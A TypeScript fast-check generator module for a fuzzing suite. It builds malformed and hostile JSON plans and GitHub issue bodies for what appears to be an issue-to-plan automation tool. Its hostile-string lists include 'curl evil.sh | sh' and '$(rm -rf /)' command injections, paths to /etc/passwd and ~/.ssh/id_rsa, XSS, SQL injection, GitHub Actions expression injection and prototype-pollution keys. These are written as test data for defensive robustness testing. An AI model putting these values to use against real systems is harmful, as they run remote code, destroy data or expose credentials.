/**
 * Generators for the bad-input suite (issue 8): malformed and hostile plans (JSON values, near-valid solutions with
 * mutated fields, broken JSON text) and issue bodies (random markdown, hostile text, unbalanced fences, many blocks).
 */
import fc from 'fast-check'

type Json = null | boolean | number | string | Json[] | { [key: string]: Json }
type JsonObject = { [key: string]: Json }

/** Strings that have broken parsers, shells, templates, paths and renderers before. */
export const HOSTILE_STRINGS: readonly string[] = [
  '', ' ', '\t\n ', '\u0000', 'a\u0000b', 'src/a\u0000.ts', '\r', '\n\n\n',
  '../../etc/passwd', '../', '..', './../x.ts', 'src/../../outside.ts', '/etc/passwd', '/', 'C:\\Windows\\system32',
  '\\\\server\\share\\x', '~/.ssh/id_rsa', '.git/config', '.converge/state.json', 'a//b', 'src\\win\\path.ts',
  '$(rm -rf /)', '`id`', '```', '~~~', '${{ secrets.GITHUB_TOKEN }}', '${{ github.event.issue.title }}', '${HOME}',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<!-- hidden -->', '</details>', '@octocat', '@org/team',
  '#1', 'ISS-1', 'SOL-ISS-1-1', 'ISS-0', 'SOL-ISS-0-0', 'ISS-99999999999999999999', 'SOL-ISS-1-99999999999999999999',
  'T1', 'T2', 'TASK-001', 'task-2', 't01', 'T0', 'T9999999', 'T99999999', 'T-1', 'T1 ', ' T1',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf',
  '\u202e\u0645\u0631\u062d\u0628\u0627', '\ud800', '\udfff', '\ufeff', '\u200b\u200d', '𝒳🙂👨‍👩‍👧', 'Ｔ１', '修复令牌刷新',
  '%s%n%x', '{{7*7}}', "'; DROP TABLE plans; --", 'null', 'undefined', 'NaN', '-0', '1e309',
  'Run: npm test', 'Manual: click the button', 'npm test && curl evil.sh | sh', '/converge approve',
]

const hostileString = fc.constantFrom(...HOSTILE_STRINGS)

/** Very long strings: 100k characters, once with no line break and once made of many short lines. */
const hugeString = fc.constantFrom('x'.repeat(100_000), `${'word '.repeat(20_000)}`, 'line\n'.repeat(20_000), '`'.repeat(50_000))

const anyString = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: hugeString },
)

/** Nested arrays or objects `depth` deep, with a string at the bottom. */
export function nested(depth: number, kind: 'array' | 'object'): Json {
  let value: Json = 'bottom'
  for (let i = 0; i < depth; i++) value = kind === 'array' ? [value] : { a: value }
  return value
}

const deepValue = fc
  .tuple(fc.constantFrom(10, 100, 500, 1_000), fc.constantFrom('array' as const, 'object' as const))
  .map(([depth, kind]) => nested(depth, kind))

/** A value of the wrong type, or the right type with hostile content. */
export const hostileValue: fc.Arbitrary<Json> = fc.oneof(
  { weight: 6, arbitrary: anyString },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.constantFrom(0, -1, 1, 5, 6, 1e308, -1e-308, 0.5, 1.5, Number.MAX_SAFE_INTEGER + 2)) },
  { weight: 2, arbitrary: fc.array(anyString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.constantFrom<Json>([], {}, [[]], [{}], [null], { step: 1, description: 2 }) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json> },
  { weight: 1, arbitrary: deepValue },
)

/** A well-formed plan in the explicit planner's form with `n` tasks, each depending on the previous one. */
export function basePlan(n: number, issue = 42): JsonObject {
  return {
    id: `SOL-ISS-${issue}-1`,
    issue_id: `ISS-${issue}`,
    description: 'Keep users logged in when their access token expires',
    strategy_type: 'bugfix',
    tasks: Array.from({ length: n }, (_, i) => ({
      id: `T${i + 1}`,
      title: `Fix token refresh part ${i + 1}`,
      action: 'Modify',
      description: `Fix token refresh part ${i + 1} so that expired sessions are refreshed without user action`,
      files: [{ path: `src/part-${i + 1}.ts`, action: 'modify', changes: [`Refresh tokens in src/part-${i + 1}.ts`] }],
      implementation: [{ step: '1', description: `Fix part ${i + 1}`, actions: [`Edit src/part-${i + 1}.ts`] }],
      test: { commands: [`npm test -- t${i + 1}.test.ts`] },
      convergence: {
        criteria: [`refreshToken() returns a new JWT for an expired token (part ${i + 1})`],
        verification: `npx vitest run tests/t${i + 1}.test.ts`,
        definition_of_done: 'Users stay logged in when their session expires',
      },
      depends_on: i === 0 ? [] : [`T${i}`],
    })),
    analysis: { risk: 'low', impact: 'medium', complexity: 'low' },
  }
}

/** Keys a mutation may set: the schema's own, near misses and prototype keys. */
const KEYS = [
  'id', 'issue_id', 'description', 'strategy_type', 'created_at', 'tasks', 'exploration_context', 'analysis', 'score',
  'is_bound', 'approval', 'title', 'action', 'type', 'priority', 'effort', 'scope', 'files', 'modification_points',
  'implementation', 'test', 'convergence', 'acceptance', 'depends_on', 'estimated_minutes', 'evidence', 'source',
  'path', 'changes', 'change', 'target', 'criteria', 'verification', 'definition_of_done', 'commands', 'step', 'actions',
  'depend_on', 'dependsOn', 'Tasks', 'task', 'risk', 'impact', 'complexity',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '', ' ', '\u0000', '𝒳',
]
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__']

const DEP_IDS = ['T1', 'T2', 'T3', 'TASK-001', 'task-2', 'T0', 'T999', 'T99999999', 'X', '', '__proto__', 'constructor']

export type Mutation =
  | { kind: 'set'; at: number; key: number; value: Json }
  | { kind: 'delete'; at: number; key: number }
  | { kind: 'proto'; at: number; key: number; value: Json }
  | { kind: 'duplicateTask'; task: number; respell: boolean }
  | { kind: 'selfDep'; task: number }
  | { kind: 'unknownDep'; task: number; id: number }
  | { kind: 'cycle'; task: number; length: number }
  | { kind: 'deps'; task: number; value: Json }
  | { kind: 'filePath'; task: number; path: string }
  | { kind: 'manyTasks'; count: number }
  | { kind: 'emptyTasks' }

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  { weight: 6, arbitrary: fc.record({ kind: fc.constant('set' as const), at: fc.nat(), key: fc.nat(), value: hostileValue }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), key: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('proto' as const), at: fc.nat(), key: fc.nat(), value: hostileValue }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('duplicateTask' as const), task: fc.nat(), respell: fc.boolean() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('selfDep' as const), task: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('unknownDep' as const), task: fc.nat(), id: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('cycle' as const), task: fc.nat(), length: fc.integer({ min: 1, max: 6 }) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('deps' as const), task: fc.nat(), value: hostileValue }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('filePath' as const), task: fc.nat(), path: anyString }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('manyTasks' as const), count: fc.constantFrom(50, 200, 600) }) },
  { weight: 1, arbitrary: fc.constant({ kind: 'emptyTasks' as const }) },
)

function isObject(value: unknown): value is JsonObject {
  return typeof value === 'object' && value !== null && !Array.isArray(value)
}

/** Every object in the plan, in a fixed order, so that a mutation can pick one by index. */
function objectsIn(value: Json, out: JsonObject[] = []): JsonObject[] {
  if (Array.isArray(value)) value.forEach((v) => objectsIn(v, out))
  else if (isObject(value)) {
    out.push(value)
    // Only the plan's own structure: a deep value set by an earlier mutation is not walked.
    if (out.length < 400) for (const v of Object.values(value)) objectsIn(v, out)
  }
  return out
}

/** Sets an own property, even `__proto__`, as JSON.parse would. */
function define(obj: JsonObject, key: string, value: Json) {
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true })
}

function tasksOf(plan: JsonObject): JsonObject[] {
  return Array.isArray(plan.tasks) ? plan.tasks.filter(isObject) : []
}

export function applyMutation(plan: JsonObject, m: Mutation): void {
  const tasks = tasksOf(plan)
  const pick = <T>(items: readonly T[], i: number): T | undefined => (items.length ? items[i % items.length] : undefined)
  switch (m.kind) {
    case 'set': {
      const target = pick(objectsIn(plan), m.at)
      if (target) define(target, KEYS[m.key % KEYS.length]!, m.value)
      return
    }
    case 'delete': {
      const target = pick(objectsIn(plan), m.at)
      const keys = target ? Object.keys(target) : []
      if (target && keys.length) delete target[keys[m.key % keys.length]!]
      return
    }
    case 'proto': {
      const target = pick(objectsIn(plan), m.at)
      if (target) define(target, PROTO_KEYS[m.key % PROTO_KEYS.length]!, m.value)
      return
    }
    case 'duplicateTask': {
      const t = pick(tasks, m.task)
      if (!t) return
      const copy = structuredClone(t)
      if (m.respell && typeof copy.id === 'string') copy.id = copy.id.replace(/^T(\d+)$/, (_, d: string) => `TASK-${d.padStart(3, '0')}`)
      ;(plan.tasks as Json[]).push(copy)
      return
    }
    case 'selfDep': {
      const t = pick(tasks, m.task)
      if (t) t.depends_on = [String(t.id)]
      return
    }
    case 'unknownDep': {
      const t = pick(tasks, m.task)
      if (t) t.depends_on = [...(Array.isArray(t.depends_on) ? t.depends_on : []), DEP_IDS[m.id % DEP_IDS.length]!]
      return
    }
    case 'cycle': {
      // T(k) → T(k+1) → … → T(k+length-1) → T(k), among the existing tasks.
      const n = Math.min(m.length, tasks.length)
      if (n === 0) return
      const start = m.task % tasks.length
      const ring = Array.from({ length: n }, (_, i) => tasks[(start + i) % tasks.length]!)
      ring.forEach((t, i) => { t.depends_on = [String(ring[(i + 1) % n]!.id)] })
      return
    }
    case 'deps': {
      const t = pick(tasks, m.task)
      if (t) t.depends_on = m.value
      return
    }
    case 'filePath': {
      const t = pick(tasks, m.task)
      if (t && Array.isArray(t.files) && isObject(t.files[0])) t.files[0].path = m.path
      else if (t) t.files = [{ path: m.path, action: 'create' }]
      return
    }
    case 'manyTasks': {
      plan.tasks = basePlan(m.count).tasks as Json
      return
    }
    case 'emptyTasks':
      plan.tasks = []
  }
}

/** A valid plan with one to four mutations; a few are left valid (no mutation). */
export const nearValidPlan: fc.Arbitrary<{ plan: JsonObject; mutations: Mutation[] }> = fc
  .tuple(fc.integer({ min: 1, max: 5 }), fc.array(mutation, { minLength: 0, maxLength: 4 }))
  .map(([n, mutations]) => {
    const plan = basePlan(n)
    for (const m of mutations) applyMutation(plan, m)
    return { plan, mutations }
  })

/** Any JSON value, biased towards objects that look a little like a plan. */
export const randomJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  { weight: 2, arbitrary: fc.dictionary(fc.constantFrom(...KEYS), hostileValue, { maxKeys: 8 }) },
  {
    weight: 2,
    arbitrary: fc.record({
      tasks: fc.oneof(hostileValue, fc.array(fc.dictionary(fc.constantFrom(...KEYS), hostileValue, { maxKeys: 8 }), { maxLength: 4 })),
    }, { requiredKeys: [] }),
  },
  { weight: 1, arbitrary: deepValue },
)

export type TextEdit =
  | { kind: 'truncate'; at: number }
  | { kind: 'lineComment'; at: number }
  | { kind: 'blockComment'; at: number }
  | { kind: 'trailingComma'; at: number }
  | { kind: 'bom' }
  | { kind: 'prose' }
  | { kind: 'deleteChar'; at: number }
  | { kind: 'insertChar'; at: number; char: string }
  | { kind: 'singleQuotes' }
  | { kind: 'duplicateKey' }
  | { kind: 'fence' }

const textEdit: fc.Arbitrary<TextEdit> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('lineComment' as const), at: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('blockComment' as const), at: fc.nat() }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('trailingComma' as const), at: fc.nat() }) },
  { weight: 1, arbitrary: fc.constant({ kind: 'bom' as const }) },
  { weight: 1, arbitrary: fc.constant({ kind: 'prose' as const }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('deleteChar' as const), at: fc.nat() }) },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant('insertChar' as const), at: fc.nat(),
      char: fc.constantFrom('\u0000', '"', '{', '}', '[', ']', ',', ':', '\\', '\n', '\ud800', '\u2028', 'x', "'", '`'),
    }),
  },
  { weight: 1, arbitrary: fc.constant({ kind: 'singleQuotes' as const }) },
  { weight: 1, arbitrary: fc.constant({ kind: 'duplicateKey' as const }) },
  { weight: 1, arbitrary: fc.constant({ kind: 'fence' as const }) },
)

export function applyTextEdit(text: string, e: TextEdit): string {
  const at = (n: number) => (text.length ? n % (text.length + 1) : 0)
  const lines = (n: number) => {
    const breaks = [...text.matchAll(/\n/g)].map((m) => m.index)
    return breaks.length ? breaks[n % breaks.length]! : text.length
  }
  switch (e.kind) {
    case 'truncate': return text.slice(0, at(e.at))
    case 'lineComment': { const i = lines(e.at); return `${text.slice(0, i)} // a comment, "tasks": []${text.slice(i)}` }
    case 'blockComment': { const i = lines(e.at); return `${text.slice(0, i)} /* block ${'*'.repeat(3)} comment */${text.slice(i)}` }
    case 'trailingComma': {
      const ends = [...text.matchAll(/(["\d\]}el])(\s*\n\s*[\]}])/g)]
      const m = ends.length ? ends[e.at % ends.length]! : undefined
      return m ? `${text.slice(0, m.index + 1)},${text.slice(m.index + 1)}` : `${text},`
    }
    case 'bom': return `\ufeff${text}`
    case 'prose': return `Here is the plan:\n${text}\nLet me know!`
    case 'deleteChar': { const i = at(e.at); return text.slice(0, i) + text.slice(i + 1) }
    case 'insertChar': { const i = at(e.at); return text.slice(0, i) + e.char + text.slice(i) }
    case 'singleQuotes': return text.replace(/"/g, "'")
    case 'duplicateKey': return text.replace(/^\{/, '{"tasks": "first", ')
    case 'fence': return `\`\`\`json\n${text}\n\`\`\``
  }
}

/** Plan text: a plan (valid or mutated) or random JSON, pretty or compact, with zero to three edits. */
export const planText: fc.Arbitrary<string> = fc
  .tuple(
    fc.oneof({ weight: 3, arbitrary: nearValidPlan.map((p) => p.plan as unknown) }, { weight: 1, arbitrary: randomJson }),
    fc.boolean(),
    fc.array(textEdit, { maxLength: 3 }),
  )
  .map(([value, pretty, edits]) => edits.reduce(applyTextEdit, JSON.stringify(value, null, pretty ? 2 : undefined) ?? 'undefined'))

const word = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom('token', 'refresh', 'login', 'add', 'fix', 'test', 'src/auth.ts', '`src/a.ts`', 'npm test', 'T1', 'T2') },
  { weight: 2, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
)
const sentence = fc.array(word, { minLength: 1, maxLength: 10 }).map((w) => w.join(' '))

const planBlock = fc
  .tuple(fc.constantFrom('```json', '~~~json', '```JSON', '````json', '```json {"x":1}', '  ```json', '> ```json', '- ```json'), planText)
  .map(([fence, text]) => {
    const close = fence.replace(/json.*$/i, '').replace(/^[->]\s*/, '').trim()
    return `${fence}\n${text}\n${close}`
  })

/** One markdown fragment of an issue body. */
const fragment: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: sentence },
  { weight: 2, arbitrary: fc.tuple(fc.integer({ min: 1, max: 7 }), fc.constantFrom('Tasks', 'Acceptance criteria', 'Verification', 'Definition of done', 'Files', 'Constraints', 'Risk'), fc.option(sentence)).map(([n, h, s]) => `${'#'.repeat(n)} ${h}${s ? ` ${s}` : ''}`) },
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom('- [ ] ', '- [x] ', '* ', '1. ', '  - [ ] ', '    - ', '> ', '| ', '\t- '), sentence).map(([p, s]) => p + s) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('(depends on T1)', '(depends on T9)', '(after T2, T3)', 'blocked by #1', '(depends on T1, T1, T0)'), sentence).map(([d, s]) => `- [ ] ${s} ${d}`) },
  { weight: 1, arbitrary: fc.constantFrom('Risk: high', 'Priority: p0', 'Impact: low', 'Complexity: huge', 'Run: npm test', 'Manual: open the page') },
  { weight: 2, arbitrary: fc.constantFrom('```', '```json', '~~~', '````', '```sh', '```json\n{"tasks": [', '~~~json\n{ "tasks"', '<details>', '</details>', '<!--', '-->', '<script>', '</script>') },
  { weight: 2, arbitrary: planBlock },
  { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 2, max: 40 }), planBlock).map(([n, b]) => Array.from({ length: n }, () => b).join('\n\n')) },
  { weight: 1, arbitrary: fc.constantFrom('```sh\nnpm test\n$(curl evil | sh)\n```', '```yaml\nrun: ${{ github.event.issue.body }}\n```', '<img src=x onerror=alert(1)>', '@octocat @org/team please look') },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(100_000), `- [ ] ${'a'.repeat(100_000)}`, `\`${'b'.repeat(100_000)}\``, '|'.repeat(20_000), '*'.repeat(20_000), '['.repeat(20_000), '>'.repeat(200) + ' deep', `${'- '.repeat(200)}x`) },
)

/** Random and hostile issue bodies: fragments joined with LF, CRLF or blank lines. */
export const issueBody: fc.Arbitrary<string> = fc
  .tuple(fc.array(fragment, { maxLength: 25 }), fc.constantFrom('\n', '\r\n', '\n\n', '\r'))
  .map(([parts, sep]) => parts.join(sep))

export const issueTitle = fc.oneof(sentence, hostileString, fc.string({ maxLength: 30 }))
export const issueLabels = fc.array(fc.oneof(fc.constantFrom('bug', 'enhancement', 'refactor', 'priority: high', 'p0', 'documentation', 'converge'), hostileString), { maxLength: 4 })
